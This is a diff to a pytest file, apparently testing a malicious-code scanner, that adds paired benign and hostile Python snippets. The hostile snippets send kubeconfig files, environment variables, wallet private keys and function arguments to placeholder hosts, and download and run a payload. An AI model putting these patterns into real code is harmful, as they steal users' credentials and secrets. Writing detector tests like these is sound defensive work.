@@ -71,6 +71,64 @@ IMPORTED = "import os, requests, httpx, subprocess, sys, tempfile\n"
             id="where a machine is, and what opens its doors",
         ),
         pytest.param(
+            "import hashlib, uuid\nid = hashlib.sha256(str(uuid.getnode()).encode()).hexdigest()\n"
+            "requests.post('https://stats.example/ping', json={'id': id[:16]})\n",
+            "import uuid\nrequests.post('https://stats.example/ping', json={'id': str(uuid.getnode())})\n",
+            "MLS-C017",
+            id="a ping that counts machines by a digest",
+        ),
+        pytest.param(
+            "import sentry_sdk\nsentry_sdk.init(**{**os.environ, 'dsn': sys.argv[-1]})\n",
+            "import sentry_sdk\nsentry_sdk.init('https://k@o1.in.example/1')\n"
+            "sentry_sdk.set_context('e', dict(os.environ))\n",
+            "MLS-C010",
+            id="settings handed to a client, and sent with it",
+        ),
+        pytest.param(
+            "import platform, webbrowser\nwebbrowser.open('https://bugs.example/new?body=' + platform.node())\n",
+            "import platform\nrequests.get('https://bugs.example/new?body=' + platform.node())\n",
+            "MLS-C017",
+            id="a report of a fault that is opened in the browser",
+        ),
+        pytest.param(
+            "def main():\n    os.spawnl(os.P_WAIT, '/usr/bin/make', 'make', 'docs')\n",
+            "d = requests.get('https://dl.example/a').content\nwith tempfile.NamedTemporaryFile('wb') as out:\n"
+            "    out.write(d)\nos.spawnl(os.P_NOWAIT, sys.executable, sys.executable, out.name)\n",
+            "MLS-C004",
+            id="a program started by its oldest name",
+        ),
+        pytest.param(
+            "import codecs\ndef plain(text):\n    return codecs.decode(text, 'rot_13')\n",
+            "import codecs, inspect\nexec(codecs.decode(inspect.getdoc(sys), 'rot_13'))\n",
+            "MLS-C002",
+            id="text turned by thirteen letters",
+        ),
+        pytest.param(
+            "def f():\n    return os.environ.get('KUBECONFIG', os.path.expanduser('~/.kube/config')).split(os.pathsep)\n",
+            "for p in os.environ.get('KUBECONFIG', os.path.expanduser('~/.kube/config')).split(os.pathsep):\n"
+            "    requests.post('https://c.example/p', data=open(p).read())\n",
+            "MLS-C010",
+            id="a list of paths in a variable, with the usual one for default",
+        ),
+        pytest.param(
+            "from eth_account import Account\ndef pay(phrase):\n    a = Account.from_mnemonic(phrase)\n"
+            "    requests.post('https://rpc.example/', json={'from': a.address})\n",
+            "from eth_account import Account\ndef pay(phrase):\n    a = Account.from_mnemonic(phrase)\n"
+            "    requests.post('https://rpc.example/', json={'from': a.address, 'id': a.key.hex()})\n",
+            "MLS-C011",
+            id="the address of an account and its key",
+        ),
+        pytest.param(
+            "import functools\ndef told(fn, kw):\n    subprocess.run(['logger', fn.__name__])\n"
+            "def logged(fn):\n    @functools.wraps(fn)\n    def w(*a, **kw):\n        told(fn, kw)\n"
+            "        return fn(*a, **kw)\n    return w\n",
+            "import functools\ndef told(fn, kw):\n    subprocess.run(['curl', '-d', repr(kw), 'https://t.example/t'])\n"
+            "def logged(fn):\n    @functools.wraps(fn)\n    def w(*a, **kw):\n        told(fn, kw)\n"
+            "        return fn(*a, **kw)\n    return w\n",
+            "MLS-C012",
+            id="a decorator that has another function tell",
+        ),
+        pytest.param(
             "import hashlib\ndef main():\n    d = requests.get('https://dl.example/tool').content\n"
             "    if hashlib.sha256(d).hexdigest() != 'ab' * 32:\n        raise ValueError\n"
             "    open('tool', 'wb').write(d)\n    subprocess.run(['./tool'])\nif __name__ == '__main__':\n    main()\n",
